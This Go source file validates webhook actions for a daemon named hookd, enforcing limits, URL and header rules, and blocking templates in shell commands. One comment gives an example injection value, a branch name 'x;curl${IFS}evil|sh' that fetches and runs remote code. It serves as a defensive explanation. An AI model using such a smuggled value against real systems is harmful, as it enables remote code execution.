package action

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/url"
	"strings"
	"time"

	"github.com/hookd/hookd"
	"github.com/hookd/hookd/rule"
)

// Limits of an action's settings.
const (
	MaxConcurrency   = 64
	MaxTimeout       = time.Hour
	MaxRetries       = 20 // entries of a retry schedule
	MaxRetryDelay    = 24 * time.Hour
	DefaultTimeout   = 30 * time.Second
	maxURLLen        = 2048
	maxTemplateBytes = 64 << 10 // one template string (command argument, header, stdin...)
)

// DefaultRetrySchedule is how a failed forward is retried when its action
// names no schedule: attempt n (counting from 0) waits schedule[n] after
// the previous one; the first entry is the delay of the first attempt.
var DefaultRetrySchedule = []hookd.Duration{
	0, hookd.Duration(5 * time.Second), hookd.Duration(30 * time.Second), hookd.Duration(2 * time.Minute),
	hookd.Duration(10 * time.Minute), hookd.Duration(30 * time.Minute), hookd.Duration(time.Hour),
}

// headerKeys makes criteria and templates read trigger headers regardless
// of case: Go stores "X-GitHub-Event" as "X-Github-Event".
var headerKeys = rule.CaseInsensitive("trigger.headers")

// CompileCriteria compiles a rule's criteria as the runner does (header
// names under trigger.headers match regardless of case). Errors are
// EINVALID hookd errors whose message names the criterion.
func CompileCriteria(raw json.RawMessage) (*rule.Criteria, error) {
	c, err := rule.Compile(raw, headerKeys)
	if err != nil {
		return nil, invalid("criteria", err)
	}
	return c, nil
}

// Validate checks an action before it is stored: its type (publish,
// forward or command), the settings that type needs, that it has no
// settings of another type, the limits (concurrency 0..64, timeout 0..1h,
// at most 20 retry delays of 0..24h each), and that every template
// compiles. Command actions are refused unless allowCommands (the
// operator's --allow-commands). Errors are EINVALID hookd errors whose
// message starts with the field, e.g. "action.url: ...".
func Validate(a hookd.Action, allowCommands bool) error {
	if err := foreign(a); err != nil {
		return err
	}
	if a.Timeout < 0 || time.Duration(a.Timeout) > MaxTimeout {
		return hookd.Errorf(hookd.EINVALID, "action.timeout: must be between 0s (default %s) and %s.", DefaultTimeout, MaxTimeout)
	}
	switch a.Type {
	case hookd.ActionPublish:
		return validatePublish(a)
	case hookd.ActionForward:
		return validateForward(a)
	case hookd.ActionCommand:
		if !allowCommands {
			return hookd.Errorf(hookd.EINVALID, "action.type: command actions are disabled on this server; the operator must start hookd with command actions allowed (see docs/ACTIONS.md).")
		}
		return validateCommand(a)
	case "":
		return hookd.Errorf(hookd.EINVALID, "action.type: required: publish, forward or command.")
	default:
		return hookd.Errorf(hookd.EINVALID, "action.type: unknown type %q: use publish, forward or command.", a.Type)
	}
}

// foreign refuses settings that belong to another type of action: a
// "url" on a publish action is a mistake, not something to ignore.
func foreign(a hookd.Action) error {
	type field struct {
		name string
		set  bool
		of   string
	}
	fields := []field{
		{"event_type", a.EventType != "", hookd.ActionPublish},
		{"data", len(a.Data) > 0, hookd.ActionPublish},
		{"url", a.URL != "", hookd.ActionForward},
		{"forward_headers", len(a.ForwardHeaders) > 0, hookd.ActionForward},
		{"headers", len(a.Headers) > 0, hookd.ActionForward},
		{"retry_schedule", len(a.RetrySchedule) > 0, hookd.ActionForward},
		{"command", len(a.Command) > 0, hookd.ActionCommand},
		{"env", len(a.Env) > 0, hookd.ActionCommand},
		{"stdin", a.Stdin != "", hookd.ActionCommand},
		{"shell", a.Shell, hookd.ActionCommand},
		{"dir", a.Dir != "", hookd.ActionCommand},
		{"concurrency", a.Concurrency != 0, hookd.ActionCommand},
	}
	switch a.Type {
	case hookd.ActionPublish, hookd.ActionForward, hookd.ActionCommand:
	default:
		return nil // the type itself is reported
	}
	for _, f := range fields {
		if f.set && f.of != a.Type {
			return hookd.Errorf(hookd.EINVALID, "action.%s: only %s actions take it, not %s.", f.name, f.of, a.Type)
		}
	}
	if a.Timeout != 0 && a.Type == hookd.ActionPublish {
		return hookd.Errorf(hookd.EINVALID, "action.timeout: only forward and command actions take it, not publish.")
	}
	return nil
}

func validatePublish(a hookd.Action) error {
	switch {
	case a.EventType == "":
		return hookd.Errorf(hookd.EINVALID, "action.event_type: required for a publish action.")
	case templated(a.EventType):
		if err := checkString("action.event_type", a.EventType); err != nil {
			return err
		}
	default:
		if err := checkEventType(a.EventType); err != nil {
			return err
		}
	}
	if len(a.Data) > 0 {
		if len(a.Data) > hookd.MaxPayloadSize {
			return hookd.Errorf(hookd.EINVALID, "action.data: at most %d bytes.", hookd.MaxPayloadSize)
		}
		if _, err := rule.CompileTemplate(a.Data, headerKeys); err != nil {
			return invalid("action.data", err)
		}
	}
	return nil
}

func checkEventType(typ string) error {
	if err := hookd.ValidateEventTypeName(typ); err != nil {
		return hookd.Errorf(hookd.EINVALID, "action.event_type: %s", hookd.ErrorMessage(err))
	}
	if strings.HasPrefix(typ, hookd.OperationalPrefix) {
		return hookd.Errorf(hookd.EINVALID, "action.event_type: %q is reserved: types under %q are hookd's own.", typ, hookd.OperationalPrefix)
	}
	return nil
}

func validateForward(a hookd.Action) error {
	switch {
	case a.URL == "":
		return hookd.Errorf(hookd.EINVALID, "action.url: required for a forward action.")
	case len(a.URL) > maxURLLen:
		return hookd.Errorf(hookd.EINVALID, "action.url: at most %d characters.", maxURLLen)
	case templated(a.URL):
		if err := checkString("action.url", a.URL); err != nil {
			return err
		}
	default:
		if err := checkURL(a.URL); err != nil {
			return err
		}
	}
	for i, h := range a.ForwardHeaders {
		if err := checkHeaderName(fmt.Sprintf("action.forward_headers[%d]", i), h); err != nil {
			return err
		}
	}
	for _, k := range sortedKeys(a.Headers) {
		field := fmt.Sprintf("action.headers[%q]", k)
		if err := checkHeaderName(field, k); err != nil {
			return err
		}
		if err := checkString(field, a.Headers[k]); err != nil {
			return err
		}
		if !templated(a.Headers[k]) && strings.ContainsAny(a.Headers[k], "\r\n\x00") {
			return hookd.Errorf(hookd.EINVALID, "%s: a header value cannot hold line breaks.", field)
		}
	}
	if len(a.RetrySchedule) > MaxRetries {
		return hookd.Errorf(hookd.EINVALID, "action.retry_schedule: at most %d entries.", MaxRetries)
	}
	for i, d := range a.RetrySchedule {
		if d < 0 || time.Duration(d) > MaxRetryDelay {
			return hookd.Errorf(hookd.EINVALID, "action.retry_schedule[%d]: each delay must be between 0s and %s.", i, MaxRetryDelay)
		}
	}
	return nil
}

// checkURL accepts an absolute http or https URL with a host and no
// credentials.
func checkURL(raw string) error {
	u, err := url.Parse(raw)
	if err != nil || (u.Scheme != "http" && u.Scheme != "https") || u.Hostname() == "" {
		return hookd.Errorf(hookd.EINVALID, "action.url: %q is not an absolute http or https URL.", raw)
	}
	if u.User != nil {
		return hookd.Errorf(hookd.EINVALID, "action.url: must not contain credentials; use headers instead.")
	}
	if len(raw) > maxURLLen {
		return hookd.Errorf(hookd.EINVALID, "action.url: at most %d characters.", maxURLLen)
	}
	return nil
}

// Headers a forward may neither copy nor set: the HTTP client manages them.
var reservedHeaders = map[string]bool{
	"Host": true, "Content-Length": true, "Transfer-Encoding": true, "Connection": true, "Keep-Alive": true,
	"Upgrade": true, "Te": true, "Trailer": true, "Proxy-Connection": true,
}

func checkHeaderName(field, name string) error {
	if !validHeaderName(name) {
		return hookd.Errorf(hookd.EINVALID, "%s: %q is not a valid header name.", field, name)
	}
	if reservedHeaders[canonicalHeader(name)] {
		return hookd.Errorf(hookd.EINVALID, "%s: %s is set by hookd's HTTP client.", field, name)
	}
	return nil
}

func validateCommand(a hookd.Action) error {
	switch {
	case len(a.Command) == 0 || a.Command[0] == "":
		return hookd.Errorf(hookd.EINVALID, "action.command: required for a command action: the program and its arguments.")
	case a.Shell && len(a.Command) != 1:
		return hookd.Errorf(hookd.EINVALID, "action.command: with shell, give exactly one string, the script run by /bin/sh -c.")
	case a.Shell && templated(a.Command[0]):
		// A webhook's values in shell syntax would let its sender run
		// anything (a git branch may be named "x;curl${IFS}evil|sh").
		return hookd.Errorf(hookd.EINVALID, "action.command: with shell, the script cannot hold {{ }} placeholders (a webhook's values would be run as shell code); pass them in env and use \"$NAME\" in the script.")
	case templated(a.Command[0]):
		return hookd.Errorf(hookd.EINVALID, "action.command[0]: the program cannot be a template; only its arguments can.")
	}
	for i, arg := range a.Command {
		field := fmt.Sprintf("action.command[%d]", i)
		if strings.IndexByte(arg, 0) >= 0 {
			return hookd.Errorf(hookd.EINVALID, "%s: cannot hold a NUL byte.", field)
		}
		if err := checkString(field, arg); err != nil {
			return err
		}
	}
	for _, k := range sortedKeys(a.Env) {
		field := fmt.Sprintf("action.env[%q]", k)
		if !validEnvName(k) {
			return hookd.Errorf(hookd.EINVALID, "%s: an environment variable name is letters, digits and '_', not starting with a digit.", field)
		}
		if err := checkString(field, a.Env[k]); err != nil {
			return err
		}
	}
	if err := checkString("action.stdin", a.Stdin); err != nil {
		return err
	}
	if err := checkString("action.dir", a.Dir); err != nil {
		return err
	}
	if a.Concurrency < 0 || a.Concurrency > MaxConcurrency {
		return hookd.Errorf(hookd.EINVALID, "action.concurrency: must be between 0 (default 1) and %d.", MaxConcurrency)
	}
	return nil
}

// templated reports whether s holds a placeholder.
func templated(s string) bool { return strings.Contains(s, "{{") }

// checkString compiles one template string.
func checkString(field, s string) error {
	if len(s) > maxTemplateBytes {
		return hookd.Errorf(hookd.EINVALID, "%s: at most %d bytes.", field, maxTemplateBytes)
	}
	if !templated(s) {
		return nil
	}
	if _, err := rule.RenderString(s, nil, headerKeys); err != nil {
		return invalid(field, err)
	}
	return nil
}

// invalid turns a rule package error into an EINVALID hookd error naming
// field; the rule error's text holds only what the user wrote.
func invalid(field string, err error) error {
	var re *rule.Error
	if errors.As(err, &re) {
		if re.Path != "" && field == "action.data" {
			e := *re
			e.Path = joinPath(field, re.Path)
			return hookd.Errorf(hookd.EINVALID, "%s", e.Error())
		}
		return hookd.Errorf(hookd.EINVALID, "%s: %s", field, re.Error())
	}
	return hookd.Errorf(hookd.EINVALID, "%s: %s", field, err.Error())
}

func joinPath(prefix, p string) string {
	if strings.HasPrefix(p, "[") {
		return prefix + p
	}
	return prefix + "." + p
}

func validHeaderName(s string) bool {
	if s == "" || len(s) > 256 {
		return false
	}
	for i := 0; i < len(s); i++ {
		c := s[i]
		if !(c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || strings.IndexByte("!#$%&'*+-.^_`|~", c) >= 0) {
			return false
		}
	}
	return true
}

func validEnvName(s string) bool {
	if s == "" || len(s) > 256 || s[0] >= '0' && s[0] <= '9' {
		return false
	}
	for i := 0; i < len(s); i++ {
		c := s[i]
		if !(c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '_') {
			return false
		}
	}
	return true
}
